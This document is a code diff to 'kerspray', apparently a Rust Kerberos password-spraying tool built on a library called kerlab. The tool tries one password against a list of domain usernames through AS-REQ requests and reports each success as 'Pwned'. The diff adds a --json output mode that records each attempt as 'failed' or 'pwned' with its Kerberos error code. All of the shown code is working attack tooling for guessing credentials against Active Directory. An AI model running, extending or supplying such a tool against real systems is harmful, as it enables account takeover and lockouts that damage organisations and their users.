@@ -5,13 +5,25 @@ use clap::{App, Arg};
 use std::fs::File;
 use std::io;
 use std::io::{BufRead, stdin};
-use kerlab::krbkdcreq::{AsReq, KdcOptionsType};
+use kerlab::krbkdcreq::AsReq;
+use kerlab::base::KdcOptionsType;
 use kerlab::request::{KrbResponse, TcpRequest};
 use kerlab::krbkdcrep::AsRep;
 use kerlab::encryption::{EncryptionKey};
+use kerlab::json::{Json, error_code_name};
 
 const APPLICATION_NAME: &str = "kerspray";
 
+/// Result of one user
+fn attempt(domain: &str, username: &str, error_code: Option<u32>) -> Json {
+    Json::object(vec![
+        ("domain", Json::string(domain)),
+        ("username", Json::string(username)),
+        ("result", Json::string(if error_code.is_some() { "failed" } else { "pwned" })),
+        ("error", error_code.map_or(Json::Null, |code| Json::named(code as i64, error_code_name(code))))
+    ])
+}
+
 fn main() {
     let matches = App::new(APPLICATION_NAME)
         .version("0.1.0")
@@ -41,6 +53,9 @@ fn main() {
         .arg(Arg::with_name("safe")
              .long("safe")
              .help("Stop when account it's first locked"))
+        .arg(Arg::with_name("json")
+             .long("json")
+             .help("Print one JSON object per attempt"))
         .get_matches();
 
     let file = File::open(matches.value_of("file").unwrap()).unwrap();
@@ -48,6 +63,7 @@ fn main() {
     let port = matches.value_of("port").unwrap_or_default();
     let password = matches.value_of("password").unwrap();
     let domain = matches.value_of("domain").unwrap();
+    let json = matches.is_present("json");
 
     let options = vec![
         KdcOptionsType::Renewable,
@@ -72,6 +88,9 @@ fn main() {
         ).unwrap();
 
         match tgt_response {
+            KrbResponse::Error(e) if json => {
+                println!("{}", attempt(domain, &username, Some(e.inner.error_code.inner)));
+            }
             KrbResponse::Error(e) => {
                 match e.inner.error_code.inner {
                     6 => println!("Not Found {}\\{}", domain, username),
@@ -80,9 +99,13 @@ fn main() {
                 }
             }
             KrbResponse::Response(_) => {
-                println!("*******************************************");
-                println!("Pwned !!! {}\\{} : {}", domain, username, password);
-                println!("*******************************************");
+                if json {
+                    println!("{}", attempt(domain, &username, None));
+                } else {
+                    println!("*******************************************");
+                    println!("Pwned !!! {}\\{} : {}", domain, username, password);
+                    println!("*******************************************");
+                }
                 let mut input_string = String::new();
                 stdin().read_line(&mut input_string)
                     .ok()